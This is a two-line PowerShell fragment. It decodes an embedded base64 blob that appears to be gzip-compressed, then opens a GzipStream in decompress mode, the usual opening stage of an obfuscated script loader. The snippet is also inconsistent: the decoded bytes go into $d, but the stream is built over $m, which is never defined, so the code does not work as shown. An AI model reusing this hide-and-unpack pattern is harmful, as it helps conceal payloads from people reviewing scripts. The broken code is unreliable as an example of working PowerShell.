$d = [System.Convert]::FromBase64String("H4sIAAAAAAACAwsvyixJ1fUvLSkoLVFQT1QoSa0oUSjJSCxRKE8sVsjITElJzVPIzFNIVChOLsosKFEHAOtXnA4xAAAA")
$s = New-Object IO.Compression.GzipStream($m, 1)
